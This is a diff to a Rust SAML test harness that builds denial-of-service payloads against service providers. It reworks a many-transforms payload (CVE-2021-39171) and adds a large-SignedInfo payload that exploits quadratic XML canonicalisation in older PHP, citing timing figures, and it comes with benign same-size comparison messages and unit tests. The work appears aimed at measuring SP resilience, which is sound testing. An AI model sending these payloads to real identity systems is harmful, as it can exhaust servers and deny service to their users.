@@ -103,10 +103,12 @@ pub fn deflate_bomb(f: &Forge) -> Result<Burden, Skip> {
 /// Reference's transforms before it checks the SignatureValue canonicalises the large
 /// element once per transform first (passport-saml < 3.1.0 CVE-2021-39171, through
 /// xml-crypto; libxmlsec1 runs them too). The yardstick is the same response and claim with
-/// only its own transforms, each signature holding instead a `ds:Object` of as many
+/// only its own transforms, the last of them holding instead a foreign element with as many
 /// `<x Algorithm="…"/>` elements, the same length in all: the same bytes and elements to
-/// parse and nothing more to canonicalise, so an SP that refuses extra transforms before it
-/// runs them spends about the same on both.
+/// parse, as many of them in SignedInfo (a canonicaliser whose cost grows faster than
+/// SignedInfo's size spends the same on both: see [`large_signed_info`]) and no more
+/// transforms to run, so an SP that refuses extra transforms before it runs them spends about
+/// the same on both.
 pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
     let doc = Doc::parse(f.seed)?;
     let signed = signed_transforms(&doc)?;
@@ -128,30 +130,128 @@ pub fn many_transforms(f: &Forge) -> Result<Burden, Skip> {
         let at = bytes::before_end_tag(doc.src, transforms);
         burden.push(bytes::insert(at, extra.repeat(added)));
         shown.push(bytes::insert(at, format!("<!-- {added} more: {extra} -->")));
-        let signature = transforms
-            .ancestors()
-            .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
-            .ok_or_else(|| Skip::Failed("Transforms outside a Signature".into()))?;
+        let last = last_transform(transforms)?;
         let elements = format!("<x Algorithm=\"{EXC_C14N}\"/>").repeat(added);
-        let (open, close) = (format!("<{ds}Object>"), format!("</{ds}Object>"));
+        let bare = bytes::append_content(doc.src, last, &foreign(&elements, 0));
         let spaces = (extra.len() * added)
-            .checked_sub(open.len() + elements.len() + close.len())
+            .checked_sub(grown(&bare))
             .ok_or_else(|| {
-                Skip::Failed("the yardstick's Object is longer than the burden".into())
+                Skip::Failed("the yardstick's elements are longer than the burden's".into())
             })?;
-        yardstick.push(bytes::insert(
-            bytes::before_end_tag(doc.src, signature),
-            format!("{open}{elements}{}{close}", " ".repeat(spaces)),
+        yardstick.push(bytes::append_content(
+            doc.src,
+            last,
+            &foreign(&elements, spaces),
         ));
     }
     Ok(Burden {
         encoded: encoded(bytes::splice(doc.src, burden)),
         shown: bytes::splice(doc.src, shown),
         yardstick: encoded(bytes::splice(doc.src, yardstick)),
-        yardstick_is: "the same-size response with only its own transforms and as many elements in a ds:Object",
+        yardstick_is: "the same-size response with only its own transforms, as many elements inside the last of them",
         ratio: SAME_SIZE_RATIO,
         ignorable: false,
     })
+}
+
+/// The namespace of the elements the dos burdens and yardsticks put inside a signature: a
+/// foreign one, which the content of ds:Transform and ds:Object allows (`##other`, lax).
+const FOREIGN_NS: &str = "urn:saml-harness:dos";
+
+/// A `<w>` in [`FOREIGN_NS`] holding `inner`, then `pad` spaces.
+fn foreign(inner: &str, pad: usize) -> String {
+    format!("<w xmlns=\"{FOREIGN_NS}\">{inner}{}</w>", " ".repeat(pad))
+}
+
+/// How many bytes `edit` adds.
+fn grown((range, text): &(std::ops::Range<usize>, String)) -> usize {
+    text.len().saturating_sub(range.len())
+}
+
+/// The last Transform in `transforms`.
+fn last_transform<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
+    transforms
+        .children()
+        .rfind(|n| n.has_tag_name((DSIG_NS, "Transform")))
+        .ok_or_else(|| Skip::NotApplicable("a signature's Transforms holds no Transform".into()))
+}
+
+/// The Signature `transforms` is in.
+fn signature_around<'a, 'i>(transforms: Node<'a, 'i>) -> Result<Node<'a, 'i>, Skip> {
+    transforms
+        .ancestors()
+        .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
+        .ok_or_else(|| Skip::Failed("Transforms outside a Signature".into()))
+}
+
+/// How many empty elements the large-SignedInfo burden puts in every signature's SignedInfo:
+/// PHP 8.2's `DOMNode::C14N` (Debian 12) took 1.6 s over 10,000 of them and 11.6 s over
+/// 20,000 on this machine, a linear canonicaliser a few milliseconds.
+pub const SIGNED_INFO_ELEMENTS: usize = 12_000;
+
+/// The IdP's own response with [`SIGNED_INFO_ELEMENTS`] empty elements in a foreign element
+/// inside the last Transform of every signature's Reference (schema-valid: a Transform's
+/// content is `##other`, lax): about 70 KB per signature. Every verifier canonicalises
+/// SignedInfo before it checks the SignatureValue, so this costs an unsigned message what the
+/// canonicaliser makes of it. PHP before 8.4 canonicalises an element (`DOMNode::C14N`, as
+/// xmlseclibs does SignedInfo: SimpleSAMLphp, php-saml) by gathering its nodes with an XPath
+/// query and testing each against that set by a linear search: quadratic in SignedInfo's
+/// nodes (php bug 53655, fixed by php-src pull request 12278; xmlseclibs issue 220). The
+/// yardstick holds the same foreign element in a ds:Object at the end of each signature
+/// (outside SignedInfo, removed with the signature by the enveloped transform) and a
+/// SignatureValue with one character changed, so that it is refused where the burden is.
+pub fn large_signed_info(f: &Forge) -> Result<Burden, Skip> {
+    let doc = Doc::parse(f.seed)?;
+    let elements = "<x/>".repeat(SIGNED_INFO_ELEMENTS);
+    let summary = format!("<x/><!-- … {} more <x/> -->", SIGNED_INFO_ELEMENTS - 1);
+    let (mut burden, mut shown, mut yardstick) = (vec![], vec![], vec![]);
+    for transforms in signed_transforms(&doc)? {
+        let (last, signature) = (last_transform(transforms)?, signature_around(transforms)?);
+        let ds = ds_prefix(&doc, transforms);
+        let in_transform =
+            |inner: &str, pad| bytes::append_content(doc.src, last, &foreign(inner, pad));
+        let in_object = |inner: &str, pad| {
+            bytes::insert(
+                bytes::before_end_tag(doc.src, signature),
+                format!("<{ds}Object>{}</{ds}Object>", foreign(inner, pad)),
+            )
+        };
+        let (b, y) = (
+            grown(&in_transform(&elements, 0)),
+            grown(&in_object(&elements, 0)),
+        );
+        burden.push(in_transform(&elements, y.saturating_sub(b)));
+        shown.push(in_transform(&summary, 0));
+        yardstick.push(in_object(&elements, b.saturating_sub(y)));
+        yardstick.extend(broken_signature_value(doc.src, signature));
+    }
+    Ok(Burden {
+        encoded: encoded(bytes::splice(doc.src, burden)),
+        shown: bytes::splice(doc.src, shown),
+        yardstick: encoded(bytes::splice(doc.src, yardstick)),
+        yardstick_is: "the same-size response with those elements in a ds:Object instead and a broken SignatureValue",
+        ratio: SAME_SIZE_RATIO,
+        ignorable: false,
+    })
+}
+
+/// The edit changing one base64 character in the middle of `signature`'s SignatureValue (the
+/// same length, still base64), so that the signature no longer verifies; none without one.
+fn broken_signature_value(src: &str, signature: Node) -> Option<(std::ops::Range<usize>, String)> {
+    let value = signature
+        .children()
+        .find(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))?;
+    let open = bytes::after_start_tag(src, value);
+    let text = src.get(open..bytes::before_end_tag(src, value))?;
+    let at = open
+        + text
+            .bytes()
+            .enumerate()
+            .skip(text.len() / 2)
+            .find(|(_, b)| b.is_ascii_alphanumeric())?
+            .0;
+    let changed = if src.as_bytes()[at] == b'A' { "B" } else { "A" };
+    Some((at..at + 1, changed.to_owned()))
 }
 
 /// The Transforms of every enveloped signature on the Response and its Assertion.
@@ -413,7 +513,7 @@ mod tests {
         assert!(bytes.iter().all(u8::is_ascii_alphanumeric));
     }
 
-    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo></Signature><AttributeStatement><Attribute Name="n"><AttributeValue>v</AttributeValue></Attribute></AttributeStatement></Assertion></samlp:Response>"##;
+    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"><Transforms><Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms></Reference></SignedInfo><SignatureValue>c2lnbmF0dXJl</SignatureValue></Signature><AttributeStatement><Attribute Name="n"><AttributeValue>v</AttributeValue></Attribute></AttributeStatement></Assertion></samlp:Response>"##;
 
     /// The XML a `SAMLResponse` value carries.
     fn decoded(encoded: &str) -> String {
@@ -441,19 +541,71 @@ mod tests {
     }
 
     #[test]
-    fn many_transforms_pads_the_signed_claims_and_its_yardstick_holds_as_many_elements_elsewhere() {
+    fn many_transforms_pads_the_signed_claims_and_its_yardstick_holds_as_many_elements_in_its_last_transform(
+    ) {
         let burden = many_transforms(&Forge::bare(SIGNED)).unwrap();
         assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
         assert_eq!(shape(&burden.yardstick), (2, TRANSFORMS_PADDING));
         assert_eq!(burden.yardstick.len(), burden.encoded.len());
         let elements = |encoded: &str| decoded(encoded).matches(EXC_C14N).count();
         assert_eq!(elements(&burden.yardstick), elements(&burden.encoded));
+        let inside_last_transform = |encoded: &str| {
+            let xml = decoded(encoded);
+            let doc = roxmltree::Document::parse(&xml).unwrap();
+            let last = doc
+                .descendants()
+                .rfind(|n| n.has_tag_name((DSIG_NS, "Transform")))
+                .unwrap();
+            last.descendants()
+                .filter(|n| n.has_tag_name((FOREIGN_NS, "x")))
+                .count()
+        };
+        assert_eq!(inside_last_transform(&burden.encoded), 0);
+        assert_eq!(inside_last_transform(&burden.yardstick), TRANSFORMS - 2);
         assert!(
             burden.encoded.len() < 512 * 1024 - 1024,
             "{}",
             burden.encoded.len()
         );
         assert!(burden.shown.contains("<!-- 2498 more: <Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/> -->"), "{}", burden.shown);
+        assert!(burden.shown.len() < 2048, "{}", burden.shown);
+    }
+
+    /// How many foreign `<x>` elements `encoded` holds inside SignedInfo and inside ds:Object,
+    /// and its SignatureValues.
+    fn placed(encoded: &str) -> (usize, usize, Vec<String>) {
+        let xml = decoded(encoded);
+        let doc = roxmltree::Document::parse(&xml).unwrap();
+        let under = |name: &str| {
+            doc.descendants()
+                .filter(|n| n.has_tag_name((FOREIGN_NS, "x")))
+                .filter(|n| n.ancestors().any(|a| a.has_tag_name((DSIG_NS, name))))
+                .count()
+        };
+        let values = doc
+            .descendants()
+            .filter(|n| n.has_tag_name((DSIG_NS, "SignatureValue")))
+            .map(|n| n.text().unwrap_or_default().to_owned())
+            .collect();
+        (under("SignedInfo"), under("Object"), values)
+    }
+
+    #[test]
+    fn a_large_signed_info_holds_the_elements_its_yardstick_holds_outside_with_a_broken_value() {
+        let burden = large_signed_info(&Forge::bare(SIGNED)).unwrap();
+        assert_eq!(burden.yardstick.len(), burden.encoded.len());
+        let original = vec!["c2lnbmF0dXJl".to_owned()];
+        assert_eq!(placed(&burden.encoded), (SIGNED_INFO_ELEMENTS, 0, original));
+        let broken = vec!["c2lnbmA0dXJl".to_owned()];
+        assert_eq!(placed(&burden.yardstick), (0, SIGNED_INFO_ELEMENTS, broken));
+        assert!(burden.encoded.len() < 100_000, "{}", burden.encoded.len());
+        assert!(
+            burden
+                .shown
+                .contains("<x/><!-- … 11999 more <x/> --></w></Transform>"),
+            "{}",
+            burden.shown
+        );
         assert!(burden.shown.len() < 2048, "{}", burden.shown);
     }
 
@@ -515,6 +667,10 @@ mod tests {
         let burden = many_transforms(&Forge::bare(&both)).unwrap();
         assert_eq!(shape(&burden.encoded), (TRANSFORMS, TRANSFORMS_PADDING));
         assert_eq!(burden.yardstick.len(), burden.encoded.len());
+        let large = large_signed_info(&Forge::bare(&both)).unwrap();
+        assert_eq!(large.yardstick.len(), large.encoded.len());
+        assert_eq!(placed(&large.encoded).0, 2 * SIGNED_INFO_ELEMENTS);
+        assert_eq!(placed(&large.yardstick).1, 2 * SIGNED_INFO_ELEMENTS);
         let bomb = xslt_bomb(&Forge::bare(&both)).unwrap();
         let xml = decoded(&bomb.encoded);
         assert_eq!(xml.matches(XSLT_TRANSFORM).count(), 2);
